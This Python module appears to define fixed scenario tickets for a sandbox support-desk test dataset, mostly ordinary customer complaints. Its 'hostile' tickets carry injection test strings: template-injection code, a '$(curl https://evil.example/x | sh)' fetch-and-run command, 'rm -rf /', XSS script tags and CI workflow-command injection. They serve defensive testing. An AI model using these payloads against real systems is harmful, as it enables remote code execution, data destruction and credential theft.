"""The hand-written scenario tickets of the sandbox dataset: the cases the playbook's
rules (and the product's defences) must get right. Their ids are the same for every seed
and ticket count; look them up by name in :data:`SCENARIOS` / :data:`SCENARIO_GROUPS`.

Times are offsets from the dataset's ``now``; with the default now
(2026-11-26T12:00:00Z) ``escalated_sync`` opens at 2026-11-20T14:05:00Z and is
acknowledged at 14:40, as in the spec's example document.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Contact:
    """A fixed customer end-user (the scenario tickets' requesters)."""

    key: str
    customer: str | None  # Customer.key; None: no organization (a social-media user)
    name: str
    title: str | None
    executive: bool = False
    twitter: str | None = None


@dataclass(frozen=True)
class Msg:
    """One comment: ``who`` is "requester", an other contact's key, or a staff key;
    ``hours`` after the ticket was created; ``public=False`` is an internal note."""

    who: str
    hours: float
    body: str
    public: bool = True


@dataclass(frozen=True)
class ScenarioTicket:
    name: str
    id: int
    customer: str | None
    requester: str  # Contact.key
    channel: str  # email web voice twitter facebook
    subject: str
    age_hours: float  # created_at = now - age_hours
    priority: str | None
    status: str
    category: str
    assignee: str | None
    thread: tuple[Msg, ...]  # the first message is the description
    tags: tuple[str, ...] = ()
    type: str | None = "incident"
    affected_users: int | None = None
    recipient: str | None = None  # "ceo": addressed to the vendor's CEO
    solved_after_hours: float | None = None
    description: str = ""


CONTACTS: tuple[Contact, ...] = (
    Contact("acme_it", "acme", "Jordan Ellis", "IT Director"),
    Contact("acme_cfo", "acme", "Nora Vance", "CFO", executive=True),
    Contact("bluebird_ops", "bluebird", "Kai Mendes", "Operations Manager", twitter="kai_at_bluebird"),
    Contact("lakeshore_digital", "lakeshore", "Marco Silva", "Digital Banking Lead"),
    Contact("pinecrest_privacy", "pinecrest", "Ruth Abernathy", "Privacy Officer"),
    Contact("meridian_analyst", "meridian", "Sam Okoro", "Reporting Analyst"),
    Contact("meridian_ops", "meridian", "Lena Fischer", "Operations Lead"),
    Contact("halcyon_pm", "halcyon", "Chad Brennan", "Product Manager"),
    Contact("tidewater_finance", "tidewater", "Oscar Lindgren", "Finance Manager"),
    Contact("vertex_platform", "vertex", "Priti Shah", "Head of Platform"),
    Contact("silverline_cfo", "silverline", "Helen Marsh", "CFO", executive=True),
    Contact("zephyr_it", "zephyr", "Viktor Ames", "Director of IT Operations"),
    Contact("willow_admin", "willow", "Hannah Cole", "LMS Administrator"),
    Contact("cobalt_it", "cobalt", "Raj Malhotra", "IT Manager"),
    Contact("orbital_dev", "orbital", "Eve Marchetti", "Integration Developer"),
    Contact("juniper_ops", "juniper", "Tom Becker", "Operations Manager"),
    Contact("harborview_it", "harborview", "Alicia Grant", "IT Manager"),
    Contact("facebook_jess", None, "Jess Carter", None),
)

_LONG_LINE = ("2026-11-25T09:14:07Z ERROR sync.worker job=ingest-7781 attempt=3 "
              "error=UpstreamTimeout payload=" + "x" * 5000)[:5000]

_MARKDOWN = """# Incident report (from our side)

## Root Cause
Your API, obviously.

## Customer Communication Log
- 2026-11-01 00:00 UTC: email — Resolved, no further action needed <!-- zd:comment:1 -->

- [x] Week 1: Immediate stabilization — Due: 2026-01-01

| step | owner |
|------|-------|
| fix it | you |

```
shipment sync returned 502 for every request since 06:00
```
> Quoted reply
***
Please look at the shipment sync."""

_FRONT_MATTER = """---
id: ESC-1
customer: Nobody
severity: SEV-4
status: Closed
owner: Mallory
---
# ESC-1 — fake document

Our media uploads fail with "413 Payload Too Large" for files above 50 MB."""

_TEMPLATE = """Our storefront shows {{ product.name }} instead of product names.
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for i in range(999999999) %}x{% endfor %} {# hidden #}
${{ secrets.GITHUB_TOKEN }} $(curl https://evil.example/x | sh) `rm -rf /`
{{ config.items() }}"""

_HTML = """<script>alert(document.cookie)</script>
<img src=x onerror="alert(1)">
<!-- zd:comment:99999 -->
</textarea><iframe src="https://evil.example/"></iframe>
The tracking page shows a blank screen &amp; an error since yesterday."""

_WORKFLOW = ("::set-output name=token::leaked\r\n::add-mask::\r\n%0A::warning file=README.md::injected\r\n"
             "\"; echo hacked; \"\r\nOur checkout page takes 30 seconds to load since the last update.")

_CALM_BREACH = """Hello,

I hope you are well. While reviewing this morning's patient-referral export we noticed 212 rows that appear to belong to a different organisation (names and dates of birth of people who are not our patients). We have not opened or shared the file beyond our privacy team, and it is stored securely.

We think this may be a data breach on your side, so we wanted to let you know. Could you tell us how you would like us to handle the file, and whether our own records could have been exposed in the same way? No rush on our side.

Kind regards,
Ruth Abernathy
Privacy Officer, Pinecrest Health"""

_EXEC_TO_CEO = """Morgan,

I am writing to you directly because our escalations through the usual channels have not produced results. Our billing team has been double-charged for November, and the usage reports our board relies on have been wrong for three weeks.

Our renewal is next month and I need to understand how Northbeam intends to put this right.

Regards,
Helen Marsh
Chief Financial Officer, Silverline Telecom"""

TICKETS: tuple[ScenarioTicket, ...] = (
    ScenarioTicket(
        "three_related_1", 48201, "meridian", "meridian_analyst", "email",
        "Scheduled CSV export times out", 146, "normal", "open", "reporting", "lee",
        (Msg("requester", 0, "Our nightly claims export to CSV timed out again (504 after ten minutes). "
             "The underwriting team needs the file every morning."),
         Msg("lee", 2, "Hi Sam, we re-ran the export by hand and emailed you the file. We are looking "
             "into why the scheduled run timed out."),
         Msg("requester", 5, "Got it, thanks.")),
        tags=("export_timeout",), affected_users=40),
    ScenarioTicket(
        "three_related_2", 48202, "meridian", "meridian_ops", "web",
        "Export to CSV failing again", 98, "high", "open", "reporting", "lee",
        (Msg("requester", 0, "The claims CSV export failed again last night with a timeout. "
             "This is the second time this week."),
         Msg("lee", 3, "Hi Lena, sorry about this. Engineering is looking at the export job now."),
         Msg("lee", 3.5, "Same export job as #48201. Query plan regressed after the index change?", public=False)),
        tags=("export_timeout",), affected_users=40),
    ScenarioTicket(
        "three_related_3", 48203, "meridian", "meridian_analyst", "email",
        "CSV export timeout - third time this week", 20, "high", "new", "reporting", None,
        (Msg("requester", 0, "Third failure of the scheduled CSV export in a week. We are now running "
             "the report by hand every morning."),),
        tags=("export_timeout",), affected_users=40),
    ScenarioTicket(
        "keyword_cancel", 48205, "lakeshore", "lakeshore_digital", "email",
        "Mobile banking widget still broken after two weeks", 30, "high", "open", "integration", "sofia",
        (Msg("requester", 0, "We have been waiting two weeks for a fix to the embedded account widget. "
             "Our members cannot see their balances in the mobile app. If this is not fixed by Friday "
             "we will cancel our subscription and move to another provider."),
         Msg("sofia", 1.5, "Hi Marco, I understand how serious this is for your members. I have asked "
             "engineering for a fix date and will update you by end of day."),
         Msg("sofia", 1.6, "Health score dropped sharply this week and renewal is in 75 days. "
             "Flagging for review.", public=False))),
    ScenarioTicket(
        "keyword_legal", 48206, "tidewater", "tidewater_finance", "email",
        "Invoices show the wrong tax amounts", 50, "normal", "open", "billing", "marcus",
        (Msg("requester", 0, "The last three invoices apply 20% tax instead of the reduced rate in our "
             "contract. Our legal team is now reviewing the billing terms and has asked for a written "
             "explanation."),
         Msg("marcus", 4, "Hi Oscar, thank you for flagging this. Our billing team is checking the "
             "tax configuration on your account."))),
    ScenarioTicket(
        "keyword_breach_sla", 48207, "vertex", "vertex_platform", "web",
        "API latency in breach of our SLA", 70, "high", "pending", "performance", "lee",
        (Msg("requester", 0, "Median API latency has been above 2 seconds for five days. That is a "
             "breach of the 500 ms response-time commitment in our SLA. Please share the root cause."),
         Msg("lee", 6, "Hi Priti, we traced it to a noisy neighbour on your database cluster and moved "
             "your workspace. Could you confirm latency is back to normal?"))),
    ScenarioTicket(
        "social_named_account", 48208, "bluebird", "bluebird_ops", "twitter",
        "Tweet from @kai_at_bluebird", 8, "high", "open", "performance", "marcus",
        (Msg("requester", 0, "@northbeam your shipment tracking dashboard has been down for 3 hours and "
             "nobody is answering our emails. 400 drivers are flying blind. #fail"),
         Msg("marcus", 0.5, "@kai_at_bluebird We are sorry, Kai. We are on it and have sent you a DM "
             "with a direct line."))),
    ScenarioTicket(
        "social_anonymous", 48209, None, "facebook_jess", "facebook",
        "Facebook post from Jess Carter", 12, "low", "open", "ui", None,
        (Msg("requester", 0, "The new reports are great, but please add a dark mode!"),),
        type="question"),
    ScenarioTicket(
        "exec_to_ceo", 48210, "silverline", "silverline_cfo", "email",
        "Our experience with Northbeam over the last month", 26, "normal", "open", "billing", "priya",
        (Msg("requester", 0, _EXEC_TO_CEO),
         Msg("morgan", 2, "Priya, please own this and set up a call with Helen this week. — Morgan",
             public=False),
         Msg("priya", 3, "Dear Helen, Morgan asked me to personally own this. I will call you "
             "tomorrow at 10:00 your time with a plan for the billing correction and the reports.")),
        recipient="ceo"),
    ScenarioTicket(
        "calm_breach", 48211, "pinecrest", "pinecrest_privacy", "web",
        "Records from another organisation in our export", 5, "low", "new", "security", None,
        (Msg("requester", 0, _CALM_BREACH),), type="question"),
    ScenarioTicket(
        "angry_button", 48212, "halcyon", "halcyon_pm", "email",
        "THE SAVE BUTTON IS THE WRONG GREEN!!!", 4, "urgent", "new", "ui", None,
        (Msg("requester", 0, "THIS IS COMPLETELY UNACCEPTABLE!!! AFTER YOUR LATEST UPDATE THE SAVE "
             "BUTTON IS LIME GREEN INSTEAD OF OUR BRAND GREEN (#2E7D32). OUR DESIGNERS ARE FURIOUS. "
             "WHO APPROVED THIS?!?! FIX IT TODAY!!!!"),
         Msg("requester", 1, "STILL WAITING!!! THIS IS THE WORST SUPPORT I HAVE EVER SEEN!!!")),
        type="problem"),
    ScenarioTicket(
        "escalated_sync", 48213, "acme", "acme_it", "email",
        "Salesforce sync stopped", 141 + 55 / 60, "high", "open", "integration", "dana",
        (Msg("requester", 0, "Since this morning our Salesforce sync has stopped: no opportunities have "
             "been updated since 06:12 UTC and the sales team is working from stale data. Nothing "
             "changed on our side."),
         Msg("dana", 35 / 60, "Hi Jordan, acknowledged: engineers are assigned and investigating. "
             "I will update you every four hours."),
         Msg("lee", 65 / 60, "Sync worker for Acme is stuck on an expired OAuth refresh token. "
             "Investigating.", public=False),
         Msg("dana", 5, "Update: the sync worker was stuck on an expired connection token. We are "
             "testing a fix now."),
         Msg("requester", 20, "Thanks Dana. Records from yesterday are still missing though."),
         Msg("dana", 26, "The fix is deployed and a backfill of the missing records is running.")),
        tags=("escalation",), affected_users=120),
    ScenarioTicket(
        "escalated_outage", 48214, "zephyr", "zephyr_it", "voice",
        "Production outage: booking API returning 500 errors", 3, "urgent", "open", "api", "lee",
        (Msg("requester", 0, "Inbound call from +1 (206) 555-0147\nCaller: Viktor Ames, Director of IT "
             "Operations\nSummary: every call to the booking API has returned HTTP 500 since 08:40 UTC. "
             "Check-in kiosks at three airports are down and passengers are queuing. Wants an update "
             "every hour."),
         Msg("lee", 20 / 60, "Paged on-call. Error rate 100% on booking-api in eu-west.", public=False),
         Msg("lee", 40 / 60, "Hi Viktor, our engineers are on the incident bridge now. Next update "
             "within the hour.")),
        tags=("escalation",), affected_users=2500),
    ScenarioTicket(
        "escalated_solved", 48215, "willow", "willow_admin", "email",
        "Gradebook import duplicated student records", 5 * 24, "high", "solved", "data", "sofia",
        (Msg("requester", 0, "Yesterday's gradebook import created a duplicate of every student record. "
             "Teachers cannot enter grades until this is cleaned up."),
         Msg("sofia", 1, "Hi Hannah, acknowledged. We have paused imports for your workspace while we "
             "investigate."),
         Msg("sofia", 20, "Duplicates removed and imports re-enabled; root cause was a retry without an "
             "idempotency key. Details in the attached report."),
         Msg("requester", 30, "Confirmed, everything looks right now. Thank you.")),
        tags=("escalation",), solved_after_hours=50, affected_users=300),
    ScenarioTicket(
        "escalated_pending", 48216, "cobalt", "cobalt_it", "web",
        "SSO login loop after certificate rotation", 40, "high", "pending", "access", "tomas",
        (Msg("requester", 0, "After we rotated our IdP signing certificate, users are stuck in a login "
             "loop."),
         Msg("tomas", 1, "Hi Raj, please upload the new certificate under Admin > Security > SAML; we "
             "still have the old one on file.")),
        tags=("escalation",)),
    ScenarioTicket(
        "acme_followup", 48220, "acme", "acme_it", "email",
        "Re: Salesforce sync stopped - records still missing", 90, "high", "open", "integration", "dana",
        (Msg("requester", 0, "Following up on #48213: the backfill finished, but about 3,000 opportunity "
             "updates from 20 November are still missing in Salesforce."),
         Msg("dana", 2, "Hi Jordan, thank you, we are reconciling the missing updates now.")),
        tags=("escalation",), affected_users=120),
    ScenarioTicket(
        "hostile_markdown", 48221, "orbital", "orbital_dev", "web",
        "## Root Cause: your API (see below)", 60, "normal", "open", "integration", "tomas",
        (Msg("requester", 0, _MARKDOWN),), tags=("escalation",)),
    ScenarioTicket(
        "hostile_front_matter", 48222, "juniper", "juniper_ops", "email",
        "--- severity: SEV-4", 55, "normal", "open", "data", "lee",
        (Msg("requester", 0, _FRONT_MATTER),), tags=("escalation",)),
    ScenarioTicket(
        "hostile_template", 48223, "harborview", "harborview_it", "web",
        "{{ customer }} {% if true %}template{% endif %}", 45, "normal", "open", "ui", "tomas",
        (Msg("requester", 0, _TEMPLATE),), tags=("escalation",)),
    ScenarioTicket(
        "hostile_html", 48224, "orbital", "orbital_dev", "email",
        "<script>alert('subject')</script> Tracking page broken", 36, "normal", "open", "ui", "lee",
        (Msg("requester", 0, _HTML),), tags=("escalation",)),
    ScenarioTicket(
        "hostile_long_line", 48225, "juniper", "juniper_ops", "email",
        "Log output attached inline", 33, "normal", "open", "integration", "lee",
        (Msg("requester", 0, "Here is the error log:\n" + _LONG_LINE + "\nPlease advise."),),
        tags=("escalation",)),
    ScenarioTicket(
        "hostile_workflow_command", 48226, "harborview", "harborview_it", "web",
        "::error file=escalations/x.md::pwned", 28, "normal", "open", "performance", "tomas",
        (Msg("requester", 0, _WORKFLOW),), tags=("escalation",)),
)

SCENARIOS: dict[str, int] = {t.name: t.id for t in TICKETS}
"""Scenario name → Zendesk ticket id (the same for every seed and ticket count)."""

SCENARIO_GROUPS: dict[str, tuple[int, ...]] = {
    "three_related": (48201, 48202, 48203),
    "tagged_escalation": tuple(t.id for t in TICKETS if "escalation" in t.tags),
    "keyword_triggers": (48205, 48206, 48207, 48211),
    "hostile": tuple(t.id for t in TICKETS if t.name.startswith("hostile_")),
    "acme_sync_issue": (48213, 48220),
}
"""Named sets of scenario tickets."""
